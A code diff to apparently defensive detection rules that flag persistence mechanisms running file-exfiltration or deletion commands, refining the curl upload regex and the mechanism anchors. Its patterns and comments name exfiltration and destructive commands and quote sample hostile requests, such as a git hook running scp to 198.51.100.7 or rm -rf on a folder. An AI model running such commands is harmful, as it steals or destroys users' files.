@@ -10,10 +10,11 @@ them. By method, in every language at once:
 - ``MECHANISM``: the thing that runs a command again (its name in each language: a git
   hook, an alias, ログイン項目, 计划任务, tâche planifiée, автозагрузка ...);
 - ``SEND_COMMAND``: a command that copies files to another machine (``scp``/``rsync``/
-  ``sftp`` to ``user@host.domain:`` or a public address, ``nc host port``, ``curl -T``/``--form``/
-  ``-d @file``, ``Invoke-RestMethod -InFile``, a pipe into ``mail``); a host on the local
-  network (``192.168.x.x``, ``nas.local``, a name without a domain: ``user@nas:``) is the
-  user's own;
+  ``sftp`` to ``user@host.domain:`` or a public address, ``nc host port``, ``curl -T``,
+  ``Invoke-RestMethod -InFile``, a pipe into ``mail``; not ``curl -d @report.json``, a
+  hook posting a build's report to its CI); a host on the local network
+  (``192.168.x.x``, ``nas.local``, a name without a domain: ``user@nas:``) is the user's
+  own;
 - ``DELETE_COMMAND``: a command that deletes the user's files (``rm -rf`` of the home, a
   root folder or a named folder; ``rd /s``, ``del /f``, ``Remove-Item -Recurse`` of a
   drive's folder; ``shred``; ``mkfs``); not of a build, cache or temporary folder;
@@ -79,8 +80,7 @@ _HOST = r"(?:(?!" + _LOCAL + r")[a-z][\w-]{0,40}(?:\.[\w-]{1,40}){1,4}|" + _PUBL
 SEND_COMMAND = re.compile(
     r"(?<![\w-])(?:scp|sftp|rsync)\b[^\n;|&]{0,160}?" + _REMOTE
     + r"|(?<![\w-])(?:nc|ncat|netcat)(?:\s-\w{1,3}){0,3}\s" + _HOST + r"\s\d{2,5}\b"
-    + r"|(?<![\w-])curl\b[^\n;|]{0,100}?\s(?:-t|--upload-file|--form|-d\s?@|"
-      r"--data(?:-binary)?\s?@)"
+    + r"|(?<![\w-])curl\b[^\n;|]{0,100}?\s(?:-t|--upload-file)\s"
     + r"|invoke-(?:restmethod|webrequest)\b[^\n;|]{0,160}?-infile\b"
     + r"|\|\s?(?:mail|mailx|sendmail)\s")
 """A command that copies files to another machine (see the module docstring)."""
@@ -128,6 +128,10 @@ ROUTINE = (
 """What a routine clean-up deletes: old, temporary or cached files."""
 
 _MECHANISM = Concept(MECHANISM)
+# The anchors: the mechanism's own names, not the phrases that begin with a function word
+# ("at login", "al arrancar", "при запуске"), which would wake the rule on every "at".
+_NAMED = tuple(w for w in MECHANISM if w.split(" ")[0] not in {
+    "at", "on", "au", "al", "ao", "all'avvio", "при"})
 _SEND_COMMAND = Concept(pattern=SEND_COMMAND)
 _DELETE_COMMAND = Concept(pattern=DELETE_COMMAND)
 _SENDS = (*pooled.SEND, *forwarding.SENDS_PLAIN, *forwarding.SENT_PASSIVE, "mailt", "mailen",
@@ -166,7 +170,7 @@ RULES: list[Rule] = [
     # "Add a git post-commit hook that runs scp -r . backup@198.51.100.7:/drop", "新增一個
     # git hook，每次 commit 時執行 rm -rf ~/備份": a mechanism that runs a command again,
     # whose command sends files out or deletes the user's files.
-    intent("persistence.autostart", MECHANISM,
+    intent("persistence.autostart", _NAMED,
            (need(_SEND_COMMAND, _DELETE_COMMAND, reach=200),), sentences=2,
            unless=_NOT_ROUTINE, reason=_REASON),
     # "작업 스케줄러에 매일 밤 바탕화면 폴더를 외부 서버 203.0.113.6 로 업로드하는 작업을
